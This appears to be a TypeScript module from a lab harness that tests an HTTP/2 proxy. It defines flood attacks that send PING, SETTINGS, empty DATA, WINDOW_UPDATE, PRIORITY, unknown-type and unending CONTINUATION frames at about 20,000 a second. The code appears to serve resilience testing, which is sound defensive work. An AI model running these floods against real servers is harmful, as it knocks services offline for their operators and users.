import { data, Flag, FrameType, frame, PING, settings, windowUpdate } from '../support/frame.js';
import {
  type Attack,
  type AttackContext,
  Attacker,
  type AttackReport,
  repeat,
  requestHeaders,
} from './attack.js';
import type { RawConnection } from './lab/raw-connection.js';

/** Frames that cost the proxy something and the client nothing, as fast as they are taken. */

/** 20 batches a second of 1 000 frames each: what one connection of a busy client never sends. */
const BATCHES_PER_SECOND = 20;
const BATCH = 1000;

/** @param batch what is sent again and again on a connection on which `begin` was sent first */
async function flood(
  context: AttackContext,
  begin: (connection: RawConnection) => void,
  batch: (connection: RawConnection) => Buffer,
): Promise<AttackReport> {
  const attacker = new Attacker(context, [], begin);
  let batches = 0;
  await repeat(BATCHES_PER_SECOND, context.signal, async () => {
    const connection = await attacker.connection();
    // What the proxy does not take piles up here otherwise.
    if (connection.socket.writableNeedDrain) return;
    connection.send(batch(connection));
    batches++;
  });
  await attacker.leave();
  return attacker.report(`${batches * BATCH} frames`);
}

function times(bytes: Buffer): Buffer {
  return Buffer.concat(new Array<Buffer>(BATCH).fill(bytes));
}

const open = requestHeaders('/common/Hang', Flag.END_HEADERS);

function ofStream1(name: string, description: string, bytes: Buffer): Attack {
  const batch = times(bytes);
  return {
    name,
    description,
    run: (context) =>
      flood(
        context,
        (connection) => connection.send(open(connection.nextStream())),
        () => batch,
      ),
  };
}

export const floodAttacks: readonly Attack[] = [
  ofStream1('flood-ping', 'PING, 20 000 a second', PING),
  ofStream1('flood-settings', 'SETTINGS, 20 000 a second', settings()),
  ofStream1('flood-empty-data', 'empty DATA on a stream, 20 000 a second', data(1, '')),
  ofStream1('flood-window-update', 'WINDOW_UPDATE of 1, 20 000 a second', windowUpdate(0, 1)),
  ofStream1('flood-priority', 'PRIORITY, 20 000 a second', frame(FrameType.PRIORITY, 0, 1, '00000000 10')),
  ofStream1('flood-unknown', 'frames of an unknown type, 20 000 a second', frame(0x42, 0, 1, '00')),
  {
    name: 'flood-continuation',
    description: 'header blocks of CONTINUATION frames that never end, 20 000 a second',
    run: (context) => {
      const batch = times(frame(FrameType.CONTINUATION, 0, 1));
      return flood(
        context,
        (connection) => connection.send(frame(FrameType.HEADERS, 0, connection.nextStream())),
        () => batch,
      );
    },
  },
];
